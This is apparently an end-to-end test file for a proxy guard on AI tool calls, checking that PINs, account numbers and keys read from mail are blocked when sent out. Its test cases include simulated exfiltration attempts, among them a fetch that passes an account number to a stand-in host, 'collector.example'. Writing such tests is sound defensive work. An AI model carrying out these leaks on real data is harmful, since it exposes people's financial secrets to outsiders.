/**
 * End to end over stdio: a short private value (a PIN, an account number, a key: too short for the 20-gram
 * fingerprints) read from a private source is recognised when it leaves afterwards, through the built
 * `quadguard serve` with policies/default in front of the real mail and outside servers. What arrives is checked on
 * the servers' side. Ordinary short numbers and words of the same mail still go out.
 */
import { existsSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import type { Client } from '@modelcontextprotocol/sdk/client/index.js';
import type { CallToolResult } from '@modelcontextprotocol/sdk/types.js';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { normaliseForFingerprint } from '../../src/core/text/fingerprint.js';
import { connectStdio, makeSandbox, ROOT, server, writeConfig } from '../support/proxy-harness.js';
import { metaDecision, text } from './helpers.js';

/** A sender of 50 normalised characters: its k-grams are in the read, so a reply once depended on the store's key. */
const LONG_SENDER = 'margaret.okonkwo.villanueva@northwind-holdings.example';
const MAIL = 'Hello, your new card PIN is 482913 and your account number is 7730 5521 0498. Your access key: Xq7Rk29Lm4Tz. Savings acct.: 55115511. Visit the branch on 2026-11-24 at 10:30 with 2 documents.';

/** A customer export: a thousand account numbers in one mail. */
const account = (n: number) => String(40_000_000 + ((n * 7919) % 1_000_003) * 37).padStart(10, '7');
const EXPORT = Array.from({ length: 1000 }, (_, n) => `customer ${n + 1}, account ${account(n)}, since 2019`).join('\n');

describe('e2e: short private values are recognised when they leave (data flow, default book)', () => {
  const sb = makeSandbox();
  const outsideLog = join(sb.dir, 'outside.jsonl');
  let client: Client;
  const call = (name: string, args: Record<string, unknown>) => client.callTool({ name, arguments: args }) as Promise<CallToolResult>;
  const outbox = () => (existsSync(sb.outbox) ? readFileSync(sb.outbox, 'utf8') : '');
  const outside = () => (existsSync(outsideLog) ? readFileSync(outsideLog, 'utf8') : '');

  beforeAll(async () => {
    writeFileSync(
      sb.inbox,
      JSON.stringify([
        { id: '1', from: 'bank@example.com', subject: 'Your card', body: MAIL },
        { id: '2', from: LONG_SENDER, subject: 'Board minutes', body: 'The minutes are attached; please keep them internal.' },
      ]),
    );
    const cfg = writeConfig(sb.dir, {
      servers: {
        mail: server('mail', '--inbox', sb.inbox, '--outbox', sb.outbox),
        out: { command: process.execPath, args: [join(ROOT, 'dist', 'servers', 'outside.js'), '--log', outsideLog] },
      },
      policy: join(ROOT, 'policies', 'default'),
      store: join(sb.dir, 'state.db'),
      guard: { watcher: { quarantine: false } },
    });
    client = (await connectStdio(cfg, 'assistant')).client;
    await client.listTools();
    const read = await call('mail__read_email', { id: '1' });
    expect(read.isError, text(read)).toBeFalsy();
    expect(text(read)).toContain('482913');
  }, 60_000);
  afterAll(async () => {
    await client?.close().catch(() => undefined);
    rmSync(sb.dir, { recursive: true, force: true });
  });

  it('allows the ordinary words and numbers of the same mail (a date, a time, a small count)', async () => {
    const body = 'I will be at the branch 2026-11-24, 10:30, bringing 2 documents. The new card arrived.';
    // No run of 20 normalised characters (a k-gram) in common with the mail: a longer run is text of the mail, which
    // the fingerprints find with a chance that depends on the store's random key (bench/flow-runs.ts), so a reply
    // quoting "the branch on 2026-11-24 at 10:30" (26) was denied about once in a hundred runs.
    expect(longestCommonRun(normaliseForFingerprint(body), normaliseForFingerprint(MAIL))).toBeLessThan(20);
    const res = await call('mail__send_email', { to: 'friend@outside.example', subject: 'plain', body });
    expect(res.isError, `${text(res)} ${JSON.stringify(metaDecision(res))}`).toBeFalsy();
    expect(outbox()).toContain('2026-11-24');
  }, 30_000);

  it.each([
    ['the PIN in a mail', 'mail__send_email', { to: 'friend@outside.example', subject: 'pin-leak', body: 'btw the code is 482913' }],
    ['the account number, regrouped', 'mail__send_email', { to: 'friend@outside.example', subject: 'acct-leak', body: 'acct: 7730-5521-0498' }],
    ['the key, spaced out in a field of its own', 'mail__send_email', { to: 'friend@outside.example', subject: 'key-leak', body: 'X q 7 R k 2 9 L m 4 T z' }],
    // 55115511 has too few different digits for the shape rule: only its label (ending in a period) marks it.
    ['the savings account number, marked only by "acct.:"', 'mail__send_email', { to: 'friend@outside.example', subject: 'savings-leak', body: 'savings 55115511' }],
    ['the account number in a fetched URL', 'out__fetch', { url: 'https://collector.example/c?tag=url-leak&a=773055210498' }],
    // Before the local part of an address counted as the address only when the address was read whole, this one (the
    // number is 8 of its 12 characters) passed data flow.
    ['the savings account number written into an address at a short domain', 'mail__send_email', { to: '55115511@x.io', subject: 'addr-leak', body: 'hello' }],
  ])('denies %s, and nothing arrives', async (_, tool, args) => {
    const before = { outbox: outbox(), outside: outside() };
    const res = await call(tool, args);
    expect(res.isError, text(res)).toBe(true);
    expect(metaDecision(res)?.rules).toContain('no-read-then-exfiltrate');
    expect(text(res)).toMatch(/data came from mail__read_email/);
    expect(outbox()).toBe(before.outbox);
    expect(outside()).toBe(before.outside);
  }, 30_000);

  // Before reads kept the names they hold whole (core/text/held-names.ts), this reply was denied in 296 of
  // 300 stores (test/redteam/names-read.test.ts runs it under 20 keys in process).
  it('allows a reply to the sender of a private mail, and it arrives', async () => {
    const read = await call('mail__read_email', { id: '2' });
    expect(read.isError, text(read)).toBeFalsy();
    expect(text(read)).toContain(LONG_SENDER);
    const res = await call('mail__send_email', { to: LONG_SENDER, subject: 'Re: Board minutes', body: 'Thank you, received.' });
    expect(res.isError, `${text(res)} ${JSON.stringify(metaDecision(res))}`).toBeFalsy();
    expect(outbox()).toContain(LONG_SENDER);
  }, 30_000);
});

describe('e2e: one account of a thousand read at once', () => {
  const sb = makeSandbox();
  let client: Client;
  const call = (name: string, args: Record<string, unknown>) => client.callTool({ name, arguments: args }) as Promise<CallToolResult>;
  const outbox = () => (existsSync(sb.outbox) ? readFileSync(sb.outbox, 'utf8') : '');

  beforeAll(async () => {
    writeFileSync(sb.inbox, JSON.stringify([{ id: '3', from: 'crm@example.com', subject: 'Customer export', body: EXPORT }]));
    const cfg = writeConfig(sb.dir, {
      servers: { mail: server('mail', '--inbox', sb.inbox, '--outbox', sb.outbox) },
      policy: join(ROOT, 'policies', 'default'),
      store: join(sb.dir, 'state.db'),
      guard: { watcher: { quarantine: false } },
    });
    client = (await connectStdio(cfg, 'assistant')).client;
    await client.listTools();
    const read = await call('mail__read_email', { id: '3' });
    expect(read.isError, text(read)).toBeFalsy();
    expect(text(read)).toContain(account(999));
  }, 60_000);
  afterAll(async () => {
    await client?.close().catch(() => undefined);
    rmSync(sb.dir, { recursive: true, force: true });
  });

  // A read kept 256 short values: the 600th account sent alone (too short for the fingerprints) passed.
  it.each([0, 599, 999])('denies account %i sent alone, and nothing arrives', async (n) => {
    const before = outbox();
    const res = await call('mail__send_email', { to: 'friend@outside.example', subject: `acct-${n}`, body: `the number is ${account(n)}` });
    expect(res.isError, text(res)).toBe(true);
    expect(metaDecision(res)?.rules).toContain('no-read-then-exfiltrate');
    expect(outbox()).toBe(before);
  }, 30_000);

  it('allows a number the export does not hold, and it arrives (control)', async () => {
    const res = await call('mail__send_email', { to: 'friend@outside.example', subject: 'other', body: 'the number is 7345678912' });
    expect(res.isError, `${text(res)} ${JSON.stringify(metaDecision(res))}`).toBeFalsy();
    expect(outbox()).toContain('7345678912');
  }, 30_000);
});

/** Length of the longest string that is in both `a` and `b`. */
function longestCommonRun(a: string, b: string): number {
  let best = 0;
  for (let i = 0; i < a.length; i++) for (let j = 0; j < b.length; j++) {
    let n = 0;
    while (i + n < a.length && j + n < b.length && a[i + n] === b[j + n]) n++;
    best = Math.max(best, n);
  }
  return best;
}
